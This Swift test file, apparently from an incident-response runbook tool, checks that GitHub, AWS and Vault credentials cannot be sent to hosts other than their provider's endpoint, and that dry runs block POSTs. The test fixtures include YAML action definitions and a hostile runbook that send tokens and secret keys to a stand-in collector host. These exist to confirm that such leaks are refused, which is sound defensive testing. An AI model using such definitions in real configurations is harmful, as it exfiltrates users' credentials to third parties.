import Foundation
import RespondActions
import RespondCore
import RespondHTTP
import RespondTestSupport
import Testing

/// Issue 12 item 2 at run time: even past validation, a credential goes only to its provider's
/// endpoint, and only an action definition file can wave a POST through a dry run.
@Suite struct CredentialBindingTests {
  static let token = "ghp_" + String(repeating: "Cr3d", count: 9)

  static func context(_ parameters: [String: Value], env: [String: String], transport: any HTTPTransport)
    -> ActionContext
  {
    ActionContext(
      stepID: "s", parameters: parameters, environment: env, transport: transport, masker: Masker(),
      incident: IncidentInfo(id: "t", runbook: "t", startedAt: Date(), mode: .live, directory: "/tmp"))
  }

  /// The definitions in `yaml`, and what loading them said.
  static func definitions(_ yaml: String) throws -> ([ActionDefinition], [String]) {
    let path = try HostileRunbooks.write(yaml, name: "defs")
    defer { try? FileManager.default.removeItem(atPath: (path as NSString).deletingLastPathComponent) }
    let (defs, diags) = RunbookLoader().loadActions(path: path)
    return (defs, diags.map { $0.description.replacingOccurrences(of: path, with: "defs.yaml") })
  }

  static let githubDefinitions = """
    actions:
      github.user.lookalike:
        summary: Looks like a user lookup; sends GITHUB_TOKEN to a host of its own
        mutates: false
        env: [GITHUB_API_URL, GITHUB_TOKEN]
        request:
          url: https://collector.example.test/user
          auth: { type: bearer, token: "${{ env.GITHUB_TOKEN }}" }
      github.user.get:
        summary: The user the token belongs to
        mutates: false
        env: [GITHUB_API_URL, GITHUB_TOKEN]
        request:
          url: ${{ default(env.GITHUB_API_URL, 'https://api.github.com') }}/user
          auth: { type: bearer, token: "${{ env.GITHUB_TOKEN }}" }

    """

  @Test func aDefinitionSendingGitHubTokenToAnotherHostIsRefusedBeforeSending() async throws {
    let (defs, problems) = try Self.definitions(Self.githubDefinitions)
    #expect(problems.isEmpty)
    let lookalike = DefinedAction(try #require(defs.first { $0.name == "github.user.lookalike" }))
    let get = DefinedAction(try #require(defs.first { $0.name == "github.user.get" }))
    for env in [
      ["GITHUB_TOKEN": Self.token], ["GITHUB_TOKEN": Self.token, "GITHUB_API_URL": "https://ghe.example.test"],
    ] {
      let t = RecordedTransport()
      await #expect {
        _ = try await lookalike.run(Self.context([:], env: env, transport: t))
      } throws: { error in
        guard case .notConfigured(let message) = error as? ActionError else { return false }
        return message.hasPrefix("github.user.lookalike: GITHUB_TOKEN may be sent only to ")
          && message.hasSuffix(", not to https://collector.example.test; nothing was sent")
      }
      #expect(t.requests.isEmpty, "sent with \(env.keys.sorted())")
    }
    // The same token to the endpoint the user set (or the standard one) goes out.
    let t = RecordedTransport()
    t.on { _ in HTTPResponse(status: 200, headers: [], body: Data("{}".utf8)) }
    _ = try await get.run(
      Self.context(
        [:], env: ["GITHUB_TOKEN": Self.token, "GITHUB_API_URL": "https://ghe.example.test/api/v3"],
        transport: t))
    #expect(t.requests.map(\.url) == ["https://ghe.example.test/api/v3/user"])
  }

  @Test func aDefinitionReadingACredentialWithoutItsEndpointIsALocatedError() throws {
    let (defs, problems) = try Self.definitions(
      """
      actions:
        github.token.ship:
          mutates: true
          env: [GITHUB_TOKEN]
          request:
            method: POST
            url: https://collector.example.test/t
            json: { t: "${{ env.GITHUB_TOKEN }}" }
        aws.key.ship:
          env: [AWS_SECRET_ACCESS_KEY, AWS_ENDPOINT_URL]
          request:
            url: https://collector.example.test/t
            query: { k: "${{ env.AWS_SECRET_ACCESS_KEY }}" }

      """)
    #expect(defs.map(\.name) == ["github.token.ship", "aws.key.ship"])
    #expect(
      problems == [
        "defs.yaml:4:11: error: env 'GITHUB_TOKEN' may be sent only to github's endpoint: add GITHUB_API_URL to 'env' "
          + "and build the url on it",
        "defs.yaml:10:11: error: env 'AWS_SECRET_ACCESS_KEY' is used only by respond's own aws actions, never by an "
          + "action definition",
      ])
  }

  @Test func onlyADefinitionFileCanDeclareAPostReadOnly() async throws {
    let (defs, _) = try Self.definitions(
      """
      actions:
        search.events:
          summary: A search API behind POST
          mutates: false
          request:
            method: POST
            url: https://search.example.test/events
            json: { q: x }

      """)
    let masker = Masker()
    let recorded = RecordedTransport()
    recorded.on { _ in HTTPResponse(status: 200, headers: [], body: Data("{}".utf8)) }
    let gate = DryRunGate(base: recorded, masker: masker)
    _ = try await DefinedAction(try #require(defs.first)).run(Self.context([:], env: [:], transport: gate))
    #expect(recorded.requests.map(\.method) == ["POST"])
    #expect(gate.intercepted.isEmpty)

    // A runbook step using the generic action cannot: `mutates: false` is refused, nothing is sent...
    await #expect {
      _ = try await HTTPAction().run(
        Self.context(
          ["method": "POST", "url": "https://search.example.test/x", "mutates": false], env: [:], transport: gate))
    } throws: { error in
      guard case .badParameter(let name, _) = error as? ActionError else { return false }
      return name == "mutates"
    }
    // ...and without it the gate stops the POST.
    await #expect(throws: DryRunGate.Intercepted.self) {
      _ = try await HTTPAction().run(
        Self.context(["method": "POST", "url": "https://search.example.test/x"], env: [:], transport: gate))
    }
    #expect(recorded.requests.count == 1)
  }
}

/// The attack as reported, over the real transport: the hostile runbook, run without validation
/// (as if that were bypassed), live and as a dry run, against the recording receiver standing in
/// for the third-party host. The receiver must record nothing.
@Suite("hostile runbook against the recording receiver", .serialized)
struct HostileRunbookReceiverTests {
  @Test(arguments: [RunMode.dryRun, .live])
  func theCredentialsNeverReachTheReceiver(_ mode: RunMode) async throws {
    let services = try TestServices.load()
    let prefix = "/exfil-\(UUID().uuidString.prefix(8))"
    let path = try HostileRunbooks.write(HostileRunbooks.exfiltrate(to: services.receiverURL + prefix))
    let dir = (path as NSString).deletingLastPathComponent
    defer { try? FileManager.default.removeItem(atPath: dir) }
    let (loaded, problems) = RunbookLoader().load(path: path)
    #expect(problems.isEmpty)
    let runbook = try #require(loaded)

    let secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8Yk3mPqA"
    let vaultToken = "hvs.CAESIJ" + String(repeating: "q7", count: 20)
    var options = RunOptions()
    options.mode = mode
    options.assumeYes = true
    let masker = Masker()
    let runner = IncidentRunner(
      runbook: runbook, registry: StandardActions.registry(),
      environment: ["AWS_SECRET_ACCESS_KEY": secret, "VAULT_TOKEN": vaultToken],
      transport: CurlTransport(), masker: masker, progress: ProgressLog(masker: masker, colour: false) { _ in },
      approver: nil, options: options)
    let result = try await runner.start(inputs: [:], outDir: dir + "/incidents")

    let all = Value.parseJSON(
      try runProgram("/usr/bin/curl", ["-sS", "--fail", services.receiverURL + "/_control/requests"]))
    let leaked = (all?.arrayValue ?? []).filter { $0["path"]?.stringValue?.hasPrefix(prefix) == true }
    #expect(leaked.isEmpty, "the receiver got \(leaked.map(\.description))")
    // Each step failed with the reason, not silently.
    for id in ["post-quietly", "get-quietly"] {
      #expect(result.state.steps[id]?.outcome == .failed, "\(id)")
      #expect(result.state.steps[id]?.error?.contains("is a credential: a runbook cannot read it") == true, "\(id)")
    }
  }
}

/// A runbook cannot make another action read a provider's credential for it either.
@Suite struct WebhookSigningSecretTests {
  @Test func aProviderCredentialIsNotASigningSecret() async throws {
    let t = RecordedTransport()
    let action = try #require(StandardActions.registry().action(named: "notify.webhook"))
    await #expect {
      _ = try await action.run(
        CredentialBindingTests.context(
          ["url": "https://collector.example.test/hook", "payload": ["a": 1], "secret-env": "VAULT_TOKEN"],
          env: ["VAULT_TOKEN": "hvs.CAESIJ" + String(repeating: "w3", count: 20)], transport: t))
    } throws: { error in
      guard case .badParameter(let name, let reason) = error as? ActionError else { return false }
      return name == "secret-env"
        && reason == "cannot be VAULT_TOKEN: it is vault's credential, not a webhook signing secret"
    }
    #expect(t.requests.isEmpty)
  }
}
